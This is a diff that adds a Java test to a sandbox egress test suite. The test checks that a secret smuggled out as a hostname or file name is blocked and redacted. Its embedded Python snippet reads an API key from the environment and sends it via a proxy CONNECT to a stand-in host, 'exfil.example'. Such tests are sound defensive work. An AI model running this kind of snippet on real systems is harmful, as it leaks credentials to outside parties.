@@ -131,4 +131,25 @@ class EgressHostileTest {
         assertThat(r).isInstanceOf(ExecutionResult.Killed.class);
         assertThat(Map.of("limit", ((ExecutionResult.Killed) r).limit().id())).containsEntry("limit", "output");
     }
+
+    @Test
+    void secretSmuggledAsAHostNameOrFileNameIsMaskedInTheResult() {
+        String secret = "sk_live_smuggledValue42";
+        ExecutionResult r = sandbox.execute(python("import os, socket\n"
+                + "key = os.environ['API_KEY']\n"
+                + "open(key + '.txt', 'w').write('x')\n"
+                + "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
+                + "s.sendall(f'CONNECT {key}.exfil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n"
+                + "print(s.recv(200).decode().splitlines()[0])\n", NetworkPolicy.allow("api.example.com"))
+                .secret("API_KEY", secret).outputGlob("*.txt").build());
+
+        assertThat(r.succeeded()).as(r.stderr()).isTrue();
+        assertThat(r.stdout()).contains("403");
+        assertThat(r.output().network()).singleElement().satisfies(d -> {
+            assertThat(d.allowed()).isFalse();
+            assertThat(d.host()).doesNotContain(secret).contains("[REDACTED]");
+        });
+        assertThat(r.output().files()).singleElement()
+                .satisfies(f -> assertThat(f.path()).doesNotContain(secret).contains("[REDACTED]"));
+    }
 }
